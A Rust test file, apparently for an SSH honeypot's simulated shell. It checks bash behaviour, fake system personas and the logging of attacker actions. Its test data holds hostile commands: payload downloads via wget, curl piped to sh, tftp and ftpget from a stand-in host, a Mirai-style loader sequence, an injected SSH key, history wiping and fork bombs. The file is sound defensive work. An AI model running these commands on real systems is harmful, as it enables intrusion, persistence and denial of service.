//! What the shell claims, as tables of lines and what they show; limits under hostile and random input.

use super::*;
use crate::persona::Packaging;
use proptest::prelude::*;
use std::time::Instant;

const NOW: i64 = 1_790_000_000_000;

/// A persona of the wanted kind: the first seed that gives it.
fn persona(family: Family, wanted: impl Fn(&Persona) -> bool) -> Persona {
    (0..2000_u32)
        .map(|n| Persona::derive(&n.to_le_bytes(), family, NOW / 1000))
        .find(|p| wanted(p))
        .expect("some seed gives the persona")
        .with_hostname("srv1")
}

fn debian() -> Arc<System> {
    System::new(persona(Family::Server, |p| p.distro.codename == "bookworm"), Settings::default())
}

fn device() -> Arc<System> {
    System::new(persona(Family::Device, |p| p.distro.machine == "mips"), Settings::default())
}

fn login(user: &str) -> Login {
    Login {
        user: user.to_owned(),
        client_ip: "203.0.113.7".parse().expect("an address"),
        client_port: 51234,
        server_ip: "198.51.100.10".parse().expect("an address"),
        server_port: 22,
        at_ms: NOW,
        ssh: true,
    }
}

fn shell_on(system: &Arc<System>, user: &str, tty: bool) -> Shell {
    Shell::new(system.clone(), system.new_vfs(), &login(user), tty)
}

fn shell() -> Shell {
    shell_on(&debian(), "root", false)
}

fn output(shell: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&shell.run_with_input(line.as_bytes(), b"", NOW).output).into_owned()
}

#[track_caller]
fn check(line: &str, expect: &str) {
    assert_eq!(output(&mut shell(), line), expect, "{line}");
}

#[test]
fn the_language_means_what_it_means_to_bash() {
    for (line, expect) in [
        ("echo a  b 'c  d' \"e  f\"", "a b c  d e  f\n"),
        ("x=5; echo $x ${x}y \"$x\" '$x' \\$x", "5 5y 5 $x $x\n"),
        ("echo $(echo in; echo side) `echo tick`", "in side tick\n"),
        ("echo \"$(echo \"a b\")\"", "a b\n"),
        ("false; echo $?; true; echo $?", "1\n0\n"),
        ("false && echo no || echo yes", "yes\n"),
        ("! false && echo ok", "ok\n"),
        ("echo a; echo b & echo c", "a\nb\nc\n"),
        ("for i in 1 2 3; do echo -n $i; done; echo", "123\n"),
        ("for i in {1..4} x{a,b}; do echo -n \"$i \"; done", "1 2 3 4 xa xb "),
        ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done", "1\n2\n3\n"),
        ("until true; do echo x; done; echo end", "end\n"),
        ("while true; do echo once; break; done", "once\n"),
        ("if [ -d /tmp ]; then echo dir; elif true; then echo b; else echo c; fi", "dir\n"),
        ("case abc in a*) echo first;; *) echo other;; esac", "first\n"),
        ("case x in (y|x) echo hit;; esac", "hit\n"),
        ("f() { echo \"f:$1:$#\"; return 3; }; f a b; echo $?", "f:a:2\n3\n"),
        ("(cd /tmp; pwd); pwd", "/tmp\n/root\n"),
        ("{ echo a; echo b; } | wc -l", "2\n"),
        ("echo one two | while read a b; do echo $b-$a; done", "two-one\n"),
        ("echo hi > /tmp/x; cat < /tmp/x; echo more >> /tmp/x; cat /tmp/x", "hi\nhi\nmore\n"),
        ("ls /nope 2>/dev/null; echo $?", "2\n"),
        ("ls /nope 2>&1 | cut -d: -f1", "ls\n"),
        ("ls /nope &>/dev/null || echo failed", "failed\n"),
        ("cat <<EOF\nx=$HOME\nEOF", "x=/root\n"),
        ("cat <<'EOF' | tr a-z A-Z\n$HOME abc\nEOF\necho after", "$HOME ABC\nafter\n"),
        ("cat <<< word", "word\n"),
        ("echo ${unset:-default} ${HOME:+set} ${#HOME} ${HOME%/*}x ${HOME#/}", "default set 5 x root\n"),
        ("v=abcabc; echo ${v/b/X} ${v//b/X} ${v:1:2} ${v^^}", "aXcabc aXcaXc bc ABCABC\n"),
        ("echo $((1+2*3)) $((2**10)) $((7/2)) $((1<2?5:6)) $((0x10))", "7 1024 3 5 16\n"),
        ("set -- a 'b c'; for x in \"$@\"; do echo [$x]; done", "[a]\n[b c]\n"),
        ("echo # comment", "\n"),
        ("A=1 env | grep ^A=; echo \"[$A]\"", "A=1\n[]\n"),
        ("echo $'a\\tb\\x41'", "a\tbA\n"),
        ("eval 'echo $((2+2))'", "4\n"),
        ("[[ abc == a* && 1 -lt 2 ]] && echo yes", "yes\n"),
        ("echo a | cat - | cat -n", "     1\ta\n"),
        ("cd /nope; echo $?", "bash: cd: /nope: No such file or directory\n1\n"),
        ("foo bar", "bash: foo: command not found\n"),
        ("./nope", "bash: ./nope: No such file or directory\n"),
        ("/tmp", "bash: /tmp: Is a directory\n"),
        ("echo x > /tmp/s; /tmp/s", "bash: /tmp/s: Permission denied\n"),
        ("if then", "bash: syntax error near unexpected token `then'\n"),
        ("echo /etc/host*", "/etc/hostname /etc/hosts\n"),
        ("echo '/etc/host*' /nope*", "/etc/host* /nope*\n"),
        ("exit 3", ""),
    ] {
        check(line, expect);
    }
}

#[test]
fn commands_answer_like_the_real_ones() {
    for (line, expect) in [
        ("whoami", "root\n"),
        ("id", "uid=0(root) gid=0(root) groups=0(root)\n"),
        ("pwd", "/root\n"),
        ("hostname", "srv1\n"),
        ("uname", "Linux\n"),
        (
            "uname -a",
            "Linux srv1 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\n",
        ),
        (
            "uname -s -v -n -r -m",
            "Linux srv1 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64\n",
        ),
        ("echo -e \"\\x6F\\x6B\"", "ok\n"),
        ("echo -ne '\\x45\\x4c\\x46'", "ELF"),
        ("printf '%s-%03d\\n' a 7 b 8", "a-007\nb-008\n"),
        ("printf 'a%%b\\n'", "a%b\n"),
        ("seq 3 | sort -rn | head -2", "3\n2\n"),
        ("seq 1 2 7 | tail -n 2 | tr '\\n' ,", "5,7,"),
        ("printf 'b\\na\\nb\\n' | sort | uniq -c", "      1 a\n      2 b\n"),
        ("echo a:b:c | cut -d: -f2-", "b:c\n"),
        ("echo hello | tr a-y b-z", "ifmmp\n"),
        ("echo abc | rev", "cba\n"),
        ("echo 'x  y' | sed 's/^x *//;s/y/[&]/'", "[y]\n"),
        ("seq 5 | sed -n '2,3p'", "2\n3\n"),
        ("seq 5 | sed '/3/d;$d'", "1\n2\n4\n"),
        ("echo 'a b c' | awk '{print $1,$3}'", "a c\n"),
        ("echo a:b | awk -F: '{print $2 \"-\" $1; exit}'", "b-a\n"),
        ("seq 10 | awk '{s+=$1} END {print s}'", "55\n"),
        ("seq 5 | awk 'NR==2'", "2\n"),
        ("printf '\\n\\nx\\n' | awk 'NF{print; exit}'", "x\n"),
        (
            "echo 'Model name:  Xeon ' | awk -F: '/Model name/ {gsub(/^ +| +$/,\"\",$2); print $2; exit}'",
            "Xeon\n",
        ),
        ("awk 'BEGIN{if (1<2) {print \"y\"} else print \"n\"}'", "y\n"),
        ("echo dGVzdA== | base64 -d; echo -n test | base64", "testdGVzdA==\n"),
        (
            "echo -n abc | md5sum; echo -n abc | sha256sum",
            "900150983cd24fb0d6963f7d28e17f72  -\nba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n",
        ),
        ("echo a b c | xargs -n1 echo x", "x a\nx b\nx c\n"),
        ("echo foo | xargs -I{} echo [{}]", "[foo]\n"),
        ("basename /a/b.sh .sh; dirname /a/b", "b\n/a\n"),
        ("touch /tmp/a; mkdir -p /tmp/d/e; mv /tmp/a /tmp/d; ls /tmp/d", "a\ne\n"),
        ("echo 1 > f; cp f g; rm f; cat g f", "1\ncat: f: No such file or directory\n"),
        ("rm -rf /tmp/nope; rm /tmp/nope", "rm: cannot remove '/tmp/nope': No such file or directory\n"),
        ("ln -s /etc/hostname h; cat h; readlink h", "srv1\n/etc/hostname\n"),
        ("chmod 750 .profile; stat -c %a .profile", "750\n"),
        ("find /etc -name host\\* -type f", "/etc/hostname\n/etc/hosts\n"),
        ("grep -c root /etc/passwd; grep -o 'r..t' /etc/passwd | head -1", "1\nroot\n"),
        ("echo Miner | grep '[Mm]iner'; ps -ef | grep '[X]miner'", "Miner\n"),
        ("which ls; type cd; command -v wget", "/usr/bin/ls\ncd is a shell builtin\n/usr/bin/wget\n"),
        ("date -d @0 +%Y-%m-%d", "1970-01-01\n"),
        (
            "cat /etc/debian_version; cat /etc/os-release | head -1",
            "12.5\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
        ),
        ("head -c 4 /bin/ls | cut -c 2-4", "ELF\n"),
        ("dd if=/bin/ls bs=4 count=1 2>/dev/null | tr -d '\\177'", "ELF"),
        ("sh -c 'echo $0 $1' a b", "a b\n"),
        ("bash -c 'exit 7'; echo $?", "7\n"),
        (
            "echo 'echo from script $1' > s.sh; sh s.sh x; chmod +x s.sh; ./s.sh y",
            "from script x\nfrom script y\n",
        ),
        ("echo 'echo piped' | sh", "piped\n"),
        ("busybox XYZZY", "XYZZY: applet not found\n"),
        ("nohup echo x", "x\n"),
        ("history -c; unset HISTFILE; export HISTSIZE=0; echo $HISTSIZE", "0\n"),
        ("su nobody -c whoami", "nobody\n"),
        ("sudo id -u", "0\n"),
        ("crontab -l; echo '* * * * * x' | crontab -; crontab -l", "no crontab for root\n* * * * * x\n"),
        ("useradd -m eve; id -u eve 2>/dev/null; grep -c eve /etc/passwd", "1001\n1\n"),
        ("expr 3 + 4; test 1 -eq 1 && echo t", "7\nt\n"),
        ("curl -s ifconfig.me", "198.51.100.10"),
        ("cat --help | head -1", "Usage: cat [OPTION]... [FILE]...\n"),
        (
            "systemctl is-active ssh; service iptables stop; service nope stop",
            "active\nnope: unrecognized service\n",
        ),
    ] {
        check(line, expect);
    }
}

#[test]
fn the_survey_that_current_bots_run_gets_full_answers() {
    let line = r#"export PATH=/usr/local/sbin:/usr/bin:/sbin:/bin:$PATH; uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); cpus=$( (nproc 2>/dev/null || grep -c "^processor" /proc/cpuinfo 2>/dev/null) | head -1); cpu_model=$( (grep -m1 -E "model name|Hardware" /proc/cpuinfo | cut -d: -f2- | sed 's/^ *//;s/ *$//' ; lscpu 2>/dev/null | awk -F: '/Model name/ {gsub(/^ +| +$/,"",$2); print $2; exit}' ; uname -p 2>/dev/null) | awk 'NF{print; exit}' ); gpu=$( (lspci 2>/dev/null | grep -i vga; lspci 2>/dev/null | grep -i nvidia) 2>/dev/null | head -n50); last_output=$(last 2>/dev/null | head -n 10); echo "ARCH:$arch"; echo "UPTIME:$uptime"; echo "CPUS:$cpus"; echo "CPU_MODEL:$cpu_model"; echo "GPU:$gpu"; echo "LAST:$last_output""#;
    let system = debian();
    let persona = system.persona().clone();
    let text = output(&mut shell_on(&system, "root", false), line);
    assert!(text.starts_with("ARCH:x86_64\n"), "{text}");
    assert!(text.contains(&format!("UPTIME:{}\n", persona.uptime_s(NOW / 1000))), "{text}");
    assert!(
        text.contains(&format!("CPUS:{}\nCPU_MODEL:{}\n", persona.cpus, persona.cpu.model_name)),
        "{text}"
    );
    assert!(text.contains("VGA compatible controller"), "{text}");
    assert!(text.contains("reboot   system boot"), "{text}");
}

#[test]
fn a_mirai_loader_finds_a_device_it_can_infect() {
    let system = device();
    let mut shell = shell_on(&system, "root", true);
    for line in ["enable", "system", "shell"] {
        shell.run_line(line.as_bytes(), NOW);
    }
    assert_eq!(shell.run_line(b"sh", NOW).progress, Progress::Done);
    for (line, expect) in [
        ("/bin/busybox CORONA", "CORONA: applet not found\n"),
        (
            "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox JGOCE",
            "cat: .s: No such file or directory\nJGOCE: applet not found\n",
        ),
        ("cat /proc/mounts | head -2 | tail -1", "/dev/mtdblock5 / squashfs ro,relatime 0 0\n"),
        ("cd /tmp || cd /var; pwd", "/tmp\n"),
        (
            ">.x && echo can write; echo > /bin/.x",
            "can write\nsh: can't create /bin/.x: Read-only file system\n",
        ),
    ] {
        let got = String::from_utf8_lossy(&shell.run_line(line.as_bytes(), NOW).output).into_owned();
        assert_eq!(got, expect, "{line}");
    }
    let header = shell.run_line(
        b"cd /dev/shm; dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
        NOW,
    );
    // A 32-bit big-endian MIPS header: the worm reads its payload's architecture from it.
    assert_eq!(header.stdout.len(), 52);
    assert_eq!(&header.stdout[..6], b"\x7fELF\x01\x02");
    assert_eq!(header.stdout[18..20], [0, 8]);
}

#[test]
fn downloads_are_recorded_and_never_fetched() {
    for (line, url, tool, destination) in [
        ("cd /tmp; wget http://198.51.100.9/bins/x86", "http://198.51.100.9/bins/x86", "wget", "/tmp/x86"),
        ("wget -q -O /tmp/a http://198.51.100.9:81/b", "http://198.51.100.9:81/b", "wget", "/tmp/a"),
        ("wget -P/tmp http://198.51.100.9/c", "http://198.51.100.9/c", "wget", "/tmp/c"),
        ("curl -O http://198.51.100.9/d.sh", "http://198.51.100.9/d.sh", "curl", "/root/d.sh"),
        ("curl -s 198.51.100.9/e | sh", "http://198.51.100.9/e", "curl", "-"),
        ("tftp -g -r f.sh 198.51.100.9", "tftp://198.51.100.9/f.sh", "tftp", "/root/f.sh"),
        ("ftpget -u a 198.51.100.9 g g2", "ftp://198.51.100.9/g2", "ftpget", "/root/g"),
    ] {
        for downloads in [Downloads::Pretend, Downloads::Fail] {
            let family = if line.starts_with("ftpget") { Family::Device } else { Family::Server };
            let wanted = |p: &Persona| family == Family::Device || p.distro.packaging == Packaging::Deb;
            let system = System::new(persona(family, wanted), Settings { downloads });
            let mut shell = shell_on(&system, "root", false);
            let prefix = if family == Family::Device { "PATH=$PATH; cd /root; " } else { "" };
            let outcome = shell.run_line(format!("{prefix}{line}").as_bytes(), NOW);
            let expect = Effect::Download { url: url.into(), tool, destination: destination.into() };
            assert!(outcome.effects.contains(&expect), "{line}: {:?}", outcome.effects);
            let exists = shell.vfs().lock().stat("/", destination).is_ok();
            let writable = family == Family::Server && destination != "-";
            assert_eq!(exists, writable && downloads == Downloads::Pretend, "{line} {downloads:?}");
        }
    }
}

#[test]
fn a_dropped_file_is_handed_over_when_it_runs_and_only_once() {
    let mut shell = shell();
    let outcome = shell.run_line(
        b"echo -ne '#!/bin/sh\\necho pwned\\n' > /tmp/.x; chmod +x /tmp/.x; /tmp/.x; rm /tmp/.x",
        NOW,
    );
    assert_eq!(outcome.stdout, b"pwned\n");
    let files: Vec<&Written> = outcome
        .effects
        .iter()
        .filter_map(|e| if let Effect::FileWritten(w) = e { Some(w) } else { None })
        .collect();
    assert_eq!(files.len(), 1);
    assert_eq!(
        (files[0].path.as_str(), files[0].bytes.as_slice()),
        ("/tmp/.x", &b"#!/bin/sh\necho pwned\n"[..])
    );
    assert!(outcome.effects.iter().any(|e| matches!(e, Effect::Executed { path, sha256: Some(s) } if path == "/tmp/.x" && *s == files[0].sha256)));
    assert!(shell.finish().is_empty());
}

#[test]
fn what_is_left_at_the_end_is_handed_over() {
    let mut shell = shell();
    shell.run_line(b"mkdir -p .ssh; echo ssh-rsa AAAA evil >> .ssh/authorized_keys", NOW);
    let left = shell.finish();
    assert!(
        matches!(left.as_slice(), [Effect::FileWritten(w)] if w.path == "/root/.ssh/authorized_keys" && w.bytes.ends_with(b"evil\n")),
        "{left:?}"
    );
}

#[test]
fn unknown_commands_are_reported_as_such() {
    let effects = shell().run_line(b"frobnicate -x; ls / >/dev/null", NOW).effects;
    assert!(effects.contains(&Effect::Command { input: "frobnicate -x".into(), found: false }));
    assert!(effects.contains(&Effect::Command { input: "ls /".into(), found: true }));
}

#[test]
fn passwords_are_asked_without_echo_and_recorded() {
    let mut shell = shell_on(&debian(), "root", true);
    let first = shell.run_line(b"passwd", NOW);
    assert_eq!(
        (first.output.as_slice(), first.progress),
        (&b"New password: "[..], Progress::Reads { want: Want::Secret })
    );
    let second = shell.resume(b"s3cret\n", false, NOW + 1000);
    assert_eq!(
        (second.output.as_slice(), second.progress),
        (&b"\nRetype new password: "[..], Progress::Reads { want: Want::Secret })
    );
    let third = shell.resume(b"s3cret\n", false, NOW + 2000);
    assert_eq!(
        (third.output.as_slice(), third.progress),
        (&b"\npasswd: password updated successfully\n"[..], Progress::Done)
    );
    assert_eq!(
        third.effects,
        [Effect::CredentialChange { user: "root".into(), secret: "s3cret".into(), tool: "passwd" }]
    );
    let piped = shell_on(&debian(), "root", false).run_line(b"echo 'root:hunter2' | chpasswd", NOW);
    assert!(piped.effects.contains(&Effect::CredentialChange {
        user: "root".into(),
        secret: "hunter2".into(),
        tool: "chpasswd"
    }));
}

#[test]
fn nothing_runs_for_ever() {
    let started = Instant::now();
    for line in [
        ":(){ :|:& };:",
        "while true; do echo x; done",
        "while :; do :; done",
        "yes",
        "cat /dev/zero",
        "cat /dev/urandom | base64",
        "seq 1 1000000000",
        "f() { f; }; f",
        "f() { f | f; }; f",
        "for i in {1..99999999}; do for j in {1..99999999}; do :; done; done",
        "x=a; while true; do x=$x$x; done",
        "cat /dev/zero > /tmp/x; while true; do cat /tmp/x >> /tmp/y; done",
        "yes | yes | yes | cat",
        "find / -exec find / \\;",
        "find / -type f | xargs cat | md5sum",
        "grep -r x /",
        "ls -R / /  /",
        "echo 'sh x' > x; sh x",
        "echo '. ./y' > y; . ./y",
        "eval 'eval \"eval echo\"'; e='eval \"$e\"'; eval \"$e\"",
        "printf '%s' $(seq 100000) | awk '{while(1){}}'",
        "echo $((((((((((1))))))))))",
        "cp -r / /tmp/all",
        "chmod -R 777 /",
        "dd if=/dev/zero of=/tmp/big bs=1G count=1000",
        "ln -s loop loop; cat loop; ls -la loop/",
        "awk 'BEGIN{printf \"%99999999s\", 1}'",
        "sleep 100000000",
        "tar xf /dev/zero; while read x; do echo $x; done < /dev/urandom",
        "a=$(yes); b=$a$a$a; echo ${b//y/yyyyyyyyyyyy} | wc -c",
    ] {
        let mut shell = shell();
        let outcome = shell.run_with_input(line.as_bytes(), b"", NOW);
        assert!(outcome.output.len() <= limits::OUTPUT_BYTES_MAX + 64, "{line}: {}", outcome.output.len());
        assert!(outcome.delay_ms <= limits::DELAY_MS_MAX);
        assert!(outcome.effects.len() <= limits::EFFECTS_MAX);
        assert!(shell.vfs().lock().bytes() <= crate::vfs::limits::SESSION_BYTES_MAX, "{line}");
    }
    // Far above what it takes, so that only something unbounded fails it.
    assert!(started.elapsed().as_secs() < 240, "{:?}", started.elapsed());
}

#[test]
fn deep_nesting_is_refused_and_not_followed() {
    for (open, close) in [
        ("(", ")"),
        ("$(", ")"),
        ("\"$(", ")\""),
        ("${a:-", "}"),
        ("{ ", ";}"),
        ("if true; then ", "; fi"),
        ("`", "`"),
        ("! ", ""),
        ("$((", "))"),
        ("f() ", ""),
    ] {
        let line = format!("echo {}{}", open.repeat(20_000), close.repeat(20_000));
        shell().run_with_input(line.as_bytes(), b"", NOW);
        let line = format!("{}:{}", open.repeat(20_000), close.repeat(20_000));
        shell().run_with_input(line.as_bytes(), b"", NOW);
        let awk = format!("awk 'BEGIN{{print {}1}}'", "(".repeat(20_000));
        shell().run_with_input(awk.as_bytes(), b"", NOW);
        let arithmetic = format!("echo $(({}1))", "-~!(".repeat(5000));
        shell().run_with_input(arithmetic.as_bytes(), b"", NOW);
    }
}

#[test]
fn a_session_of_a_terminal_reads_like_one() {
    let mut console = Console::terminal(shell_on(&debian(), "root", true), Window::default());
    let hello = console.start(NOW);
    assert!(hello.stdout.ends_with(b"root@srv1:~# "), "{}", hello.stdout.escape_ascii());
    assert!(!String::from_utf8_lossy(&hello.stdout).replace("\r\n", "").contains('\n'));
    for (keys, expect) in [
        (&b"cd /tm\t\r"[..], "cd /tmp/\r\nroot@srv1:/tmp# "),
        (b"echo hi >f\rcat f\r", "echo hi >f\r\nroot@srv1:/tmp# cat f\r\nhi\r\nroot@srv1:/tmp# "),
        (
            b"for i in 1 2\rdo echo $i\rdone\r",
            "for i in 1 2\r\n> do echo $i\r\n> done\r\n1\r\n2\r\nroot@srv1:/tmp# ",
        ),
        (b"cat\rline\r\x04", "cat\r\nline\r\nline\r\nroot@srv1:/tmp# "),
        (b"sleep 1\x03", "sleep 1^C\r\nroot@srv1:/tmp# "),
        (b"su nobody\r", "su nobody\r\nnobody@srv1:/tmp$ "),
        (b"sudo -s\rpw\r", "sudo -s\r\n[sudo] password for nobody: \r\nroot@srv1:/tmp# "),
        (b"exit\rexit\r", "exit\r\nexit\r\nnobody@srv1:/tmp$ exit\r\nexit\r\nroot@srv1:/tmp# "),
    ] {
        let reaction = console.input(keys, NOW);
        assert_eq!(String::from_utf8_lossy(&reaction.stdout), expect, "{}", keys.escape_ascii());
        assert_eq!(reaction.exit, None);
    }
    let bye = console.input(b"exit 4\r", NOW);
    assert_eq!((String::from_utf8_lossy(&bye.stdout).as_ref(), bye.exit), ("exit 4\r\nlogout\r\n", Some(4)));
    assert_eq!(bye.effects.first(), Some(&Effect::Line { input: "exit 4".into() }));
    assert_eq!(console.input(b"ls\r", NOW), Reaction::default());
}

#[test]
fn exec_takes_standard_input_as_ssh_sends_it() {
    let system = debian();
    let vfs = system.new_vfs();
    let exec = |command: &[u8], pieces: &[&[u8]]| {
        let shell = Shell::new(system.clone(), vfs.clone(), &login("root"), false);
        let mut console = Console::exec(shell, command, false);
        let mut all = vec![console.start(NOW)];
        all.extend(pieces.iter().map(|p| console.input(p, NOW)));
        all.push(console.eof(NOW));
        let out: Vec<u8> = all.iter().flat_map(|r| r.stdout.clone()).collect();
        let err: Vec<u8> = all.iter().flat_map(|r| r.stderr.clone()).collect();
        let exit = all.iter().find_map(|r| r.exit);
        (String::from_utf8_lossy(&out).into_owned(), String::from_utf8_lossy(&err).into_owned(), exit)
    };
    assert_eq!(exec(b"cat > /tmp/drop; wc -c < /tmp/drop", &[b"abc", b"def\n", b"\x00\xff"]).0, "9\n");
    let dropped = vfs.lock().resolve("/", "/tmp/drop").expect("it was written");
    assert_eq!(vfs.lock().read_id(dropped).expect("a file").as_slice(), b"abcdef\n\x00\xff");
    assert_eq!(exec(b"sh", &[b"echo a\necho", b" b\nexit 5\n"]), ("a\nb\n".into(), String::new(), Some(5)));
    assert_eq!(exec(b"bash -s x", &[b"echo $1\n"]).0, "x\n");
    assert_eq!(exec(b"nope", &[]), (String::new(), "bash: nope: command not found\n".into(), Some(127)));
    assert_eq!(exec(b"head -1; echo done", &[b"1\n2\n"]).0, "1\ndone\n");
    assert_eq!(exec(b"while read x; do echo got $x; done", &[b"1\n", b"2\n3"]).0, "got 1\ngot 2\n");
}

#[test]
fn a_shell_without_terminal_shows_no_prompt() {
    let mut console = Console::piped(shell());
    let mut out = console.start(NOW).stdout;
    out.extend(console.input(b"uname\nif true\nthen echo x\nfi\nid -", NOW).stdout);
    out.extend(console.input(b"u\nexit 2\n", NOW).stdout);
    assert_eq!(out, b"Linux\nx\n0\n");
}

#[test]
fn ordinary_users_meet_permissions() {
    let system = debian();
    let name = system.persona().person().expect("the persona has a person").name.clone();
    let mut shell = shell_on(&system, &name, false);
    for (line, expect) in [
        ("cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"),
        ("cd /root", "bash: cd: /root: Permission denied\n"),
        ("echo x > /etc/passwd", "bash: /etc/passwd: Permission denied\n"),
        (
            "echo ok > ~/f; cat ~/f; rm /etc/hostname",
            "ok\nrm: cannot remove '/etc/hostname': Permission denied\n",
        ),
        ("id -u; /sbin/reboot", "1000\nreboot: Must be root.\n"),
    ] {
        assert_eq!(output(&mut shell, line), expect, "{line}");
    }
}

#[test]
fn every_command_of_the_table_survives_odd_arguments() {
    let system = debian();
    let vfs = Vfs::new(system.base.clone());
    let dir = vfs.resolve("/", "/usr/bin").expect("there are programs");
    let sbin = vfs.resolve("/", "/usr/sbin").expect("there are programs");
    let programs: Vec<String> = [dir, sbin]
        .iter()
        .flat_map(|d| vfs.list_id(*d).expect("a directory"))
        .map(|(n, _)| n.to_string())
        .collect();
    let known = programs.iter().filter(|p| commands::lookup(p).is_some()).count();
    assert!(known >= 100, "{known} commands");
    for program in programs.iter().chain(&["cd".to_owned(), "read".into(), "export".into(), "busybox".into()])
    {
        for args in [
            "",
            "-",
            "--",
            "--help",
            "-x",
            "-n -1",
            "''",
            "/nope",
            "/",
            "-f",
            "a b c",
            "-c",
            "-e 's/",
            "=",
            "-O",
            "99999999999999999999",
            "\u{fffd}",
            "/bin/ls /proc/uptime",
        ] {
            let mut shell = Shell::new(system.clone(), SharedVfs::new(vfs.clone()), &login("root"), false);
            shell.run_with_input(format!("{program} {args}").as_bytes(), b"1 2\n\xff\n", NOW);
        }
    }
}

#[test]
fn a_session_shares_the_tree_until_it_changes_something() {
    let system = debian();
    let mut shells: Vec<Shell> = (0..200).map(|_| shell_on(&system, "root", true)).collect();
    assert!(shells.iter().all(|s| s.vfs().lock().changed_count() == 0));
    shells[0].run_line(b"ls -la / /etc /usr/bin; cat /etc/passwd; find / -name x", NOW);
    assert_eq!(shells[0].vfs().lock().changed_count(), 0, "reading copies nothing");
    shells[0].run_line(b"echo x > /tmp/x", NOW);
    // The file and the directory it is in.
    assert_eq!(shells[0].vfs().lock().changed_count(), 2);
    assert_eq!(output(&mut shells[1], "ls /tmp"), "");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, max_shrink_iters: 200, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_survived(line in prop::collection::vec(any::<u8>(), 0..300), input in prop::collection::vec(any::<u8>(), 0..100)) {
        let mut shell = shell();
        let outcome = shell.run_with_input(&line, &input, NOW);
        prop_assert!(outcome.output.len() <= limits::OUTPUT_BYTES_MAX + 64);
    }

    #[test]
    fn any_program_of_shell_words_is_survived(words in prop::collection::vec(prop::sample::select(vec![
        "for", "in", "do", "done", "while", "true", "if", "then", "else", "fi", "case", "esac", "(", ")", "{", "}", ";", "&", "&&", "||", "|",
        ">", "<", ">>", "<<", "2>&1", "&>", "EOF", "\n", "$x", "$(", "`", "\"", "'", "$((", "))", "${", "x=1", "echo", "cat", "ls", "read", "x",
        "/tmp/f", "*", "[", "]", "!", "eval", "sh", "-c", "awk", "sed", "s/a/b/", "grep", "-r", "find", "/", "xargs", "yes", "head", "f()", "f", "\\", "~", "#", "exit",
    ]), 0..40)) {
        let line = words.join(" ");
        let mut shell = shell();
        let outcome = shell.run_with_input(line.as_bytes(), b"a b\nc\n", NOW);
        prop_assert!(outcome.output.len() <= limits::OUTPUT_BYTES_MAX + 64);
        prop_assert!(shell.vfs().lock().bytes() <= crate::vfs::limits::SESSION_BYTES_MAX);
    }

    #[test]
    fn any_keys_are_survived_and_splitting_them_changes_nothing(keys in prop::collection::vec(prop_oneof![
        any::<u8>(), prop::sample::select(b"ls -la\r\n\t\x03\x04\x15\x1b[ABCD~200 |>$()'\"".to_vec())], 0..200), cut in 0usize..200) {
        let run = |pieces: &[&[u8]]| {
            let mut console = Console::terminal(shell_on(&debian(), "root", true), Window::default());
            let mut out = console.start(NOW).stdout;
            for piece in pieces {
                out.extend(console.input(piece, NOW).stdout);
            }
            out
        };
        let (a, b) = keys.split_at(cut.min(keys.len()));
        prop_assert_eq!(run(&[a, b]), run(&[&keys]));
    }
}
